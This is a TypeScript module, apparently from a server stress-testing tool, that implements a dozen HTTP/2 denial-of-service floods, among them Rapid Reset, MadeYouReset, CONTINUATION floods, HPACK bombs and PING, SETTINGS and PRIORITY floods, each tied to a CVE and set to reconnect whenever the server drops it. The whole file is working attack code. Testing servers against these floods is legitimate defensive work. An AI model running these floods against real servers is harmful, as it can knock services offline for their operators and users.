/**
 * Floods over HTTP/2: frames that cost a peer little. Each connection that the server ends is followed by another.
 *
 * @module
 */

import { concat, latin1 } from "../../support/bytes.ts";
import {
  Flag,
  frameBytes,
  FrameType,
  hpackBlock,
  hpackInteger,
  requestFields,
  uint,
} from "../../support/http2_client.ts";
import { pass } from "../../support/deadline.ts";
import type { Attack } from "../attack.ts";
import {
  cancelStream,
  connectHead,
  dataFrame,
  headersFrame,
  Http2Peer,
  requestHead,
  windowUpdate,
} from "../wire/http2.ts";

/** Runs `scale` peers at once, each anew when it has ended, and pauses so long between two of one place. */
async function hold(attack: Attack, run: (peer: Http2Peer) => Promise<void>, pause = 50): Promise<void> {
  await Promise.all(Array.from({ length: attack.scale }, async () => {
    while (!attack.isOver) {
      const peer = await Http2Peer.open(attack);
      if (peer !== null) {
        attack.count("connections");
        await run(peer);
        if (!attack.isOver) await Promise.race([peer.end, attack.pass(500)]);
        peer.peer.leave();
      }
      await attack.pass(pause);
    }
  }));
}

/** Sends what `make` gives until the server has had enough. */
async function flood(peer: Http2Peer, make: () => Uint8Array): Promise<void> {
  for (let sent = 1; !peer.attack.isOver && !peer.isOver && await peer.send(make()); sent++) {
    if (sent % 4 === 0) await pass(0); // else it would never read what the server says
  }
}

/** Requests that are reset at once (CVE-2023-44487). */
export async function rapidReset(attack: Attack): Promise<void> {
  await hold(attack, (peer) =>
    flood(peer, () => {
      const frames: Uint8Array[] = [];
      for (let turn = 0; turn < 50; turn++) {
        const streamId = peer.nextStream();
        frames.push(requestHead(streamId, "/never"), cancelStream(streamId));
      }
      return concat(frames);
    }));
}

/** Faults that make the server reset streams (CVE-2025-8671). */
export async function madeYouReset(attack: Attack): Promise<void> {
  await hold(attack, (peer) =>
    flood(peer, () => {
      const frames: Uint8Array[] = [];
      for (let turn = 0; turn < 50; turn++) {
        const streamId = peer.nextStream();
        frames.push(requestHead(streamId, "/never"), windowUpdate(streamId, 0));
      }
      return concat(frames);
    }));
}

/** The same frame without end. */
function repeat(attack: Attack, frame: Uint8Array): Promise<void> {
  const many = concat(Array.from({ length: 500 }, () => frame));
  return hold(attack, (peer) => flood(peer, () => many));
}

/** PING frames (CVE-2019-9512). */
export async function pings(attack: Attack): Promise<void> {
  await repeat(attack, frameBytes({ type: FrameType.PING, payload: latin1("soaksoak") }));
}

/** SETTINGS frames (CVE-2019-9515). */
export async function settings(attack: Attack): Promise<void> {
  await repeat(attack, frameBytes({ type: FrameType.SETTINGS }));
}

/** PRIORITY frames for streams that are not open (CVE-2019-9513). */
export async function priorities(attack: Attack): Promise<void> {
  await repeat(attack, frameBytes({ type: FrameType.PRIORITY, streamId: 1001, payload: [0, 0, 0, 0, 16] }));
}

/** CONTINUATION frames without END_HEADERS (CVE-2024-28182 and others). */
export async function continuations(attack: Attack): Promise<void> {
  const block = hpackBlock(requestFields());
  const more = hpackBlock([["x-more", "y".repeat(200)]]);
  await hold(attack, async (peer) => {
    const streamId = peer.nextStream();
    await peer.send(frameBytes({ type: FrameType.HEADERS, streamId, payload: block }));
    const many = concat(Array.from(
      { length: 100 },
      () => frameBytes({ type: FrameType.CONTINUATION, streamId, payload: more }),
    ));
    await flood(peer, () => many);
  });
}

/** One large entry of the table, named by thousands of bytes of a block (CVE-2016-6581). */
export async function hpackBombs(attack: Attack): Promise<void> {
  const value = "v".repeat(3_900);
  const entry = Uint8Array.from([
    0x40,
    ...hpackInteger(6, 7),
    ...latin1("x-bomb"),
    ...hpackInteger(3_900, 7),
    ...latin1(value),
  ]);
  const first = concat([hpackBlock(requestFields()), entry]);
  const references = new Uint8Array(12_000).fill(0x80 | 62); // the newest entry of the dynamic table
  await hold(attack, async (peer) => {
    await peer.send(headersFrame(peer.nextStream(), first));
    await flood(peer, () => {
      const block = concat([hpackBlock(requestFields()), references]);
      return concat(Array.from({ length: 20 }, () => headersFrame(peer.nextStream(), block)));
    });
  });
}

/** Empty DATA frames (CVE-2019-9518). */
export async function emptyData(attack: Attack): Promise<void> {
  await hold(attack, async (peer) => {
    const streamId = peer.nextStream();
    await peer.send(requestHead(streamId, "/upload", { method: "POST", ends: false }));
    const many = concat(Array.from({ length: 500 }, () => dataFrame(streamId, new Uint8Array(0))));
    await flood(peer, () => many);
  });
}

/** Windows that open by one byte again and again, for responses that wait for them. */
export async function windowDrip(attack: Attack): Promise<void> {
  await hold(attack, async (peer) => {
    const streamId = peer.nextStream();
    await peer.send(requestHead(streamId, "/endless"));
    const many = concat(Array.from({ length: 500 }, () => windowUpdate(streamId, 1)));
    await flood(peer, () => many);
  });
}

/** Many requests at once, for as long as the server answers. */
export async function requests(attack: Attack): Promise<void> {
  await hold(attack, async (peer) => {
    let open = 0;
    let wake = () => {};
    peer.onStreamEnd = () => {
      open--;
      wake();
    };
    while (!attack.isOver && !peer.isOver) {
      const frames: Uint8Array[] = [];
      for (; open < 100; open++) frames.push(requestHead(peer.nextStream(), "/"));
      if (!await peer.send(concat(frames))) break;
      await Promise.race([
        new Promise<void>((resolve) => {
          wake = resolve;
        }),
        peer.end,
        attack.pass(1_000),
      ]);
    }
  });
}

/** A tunnel that sends back what it gets, flooded in both directions. */
export async function tunnelFlood(attack: Attack): Promise<void> {
  await hold(attack, async (peer) => {
    const streamId = peer.nextStream();
    await peer.send(concat([connectHead(streamId), windowUpdate(streamId, 2 ** 30)]));
    await floodStream(peer, streamId);
    attack.count("MiB read", Math.round(peer.received / 2 ** 20));
  });
}

/** Four uploads on each connection, as fast as the server takes them. */
export async function streamUploads(attack: Attack): Promise<void> {
  await hold(attack, async (peer) => {
    await Promise.all([1, 2, 3, 4].map(async () => {
      const streamId = peer.nextStream();
      await peer.send(requestHead(streamId, "/upload", { method: "POST", ends: false }));
      attack.count("MiB sent", Math.round(await floodStream(peer, streamId) / 2 ** 20));
    }));
  });
}

/** Sends as much on a stream as it takes, and says how much that was. */
async function floodStream(peer: Http2Peer, streamId: number): Promise<number> {
  const piece = new Uint8Array(16_384);
  let sent = 0;
  while (!peer.attack.isOver && await peer.sendData(streamId, piece)) sent += piece.length;
  return sent;
}

/** Four endless responses on each connection, read as fast as they come. */
export async function endlessStreams(attack: Attack): Promise<void> {
  await hold(attack, async (peer) => {
    for (let turn = 0; turn < 4; turn++) await peer.send(requestHead(peer.nextStream(), "/endless"));
    await Promise.race([peer.end, attack.rest()]);
    attack.count("MiB read", Math.round(peer.received / 2 ** 20));
  });
}

/** SETTINGS that change the windows of many streams again and again. */
export async function settingsChanges(attack: Attack): Promise<void> {
  const change = (value: number) =>
    frameBytes({ type: FrameType.SETTINGS, flags: Flag.NONE, payload: [...uint(4, 2), ...uint(value)] });
  const pair = concat([change(0), change(1_000_000)]);
  await hold(attack, async (peer) => {
    for (let turn = 0; turn < 100; turn++) await peer.send(requestHead(peer.nextStream(), "/never"));
    await flood(peer, () => pair);
  });
}
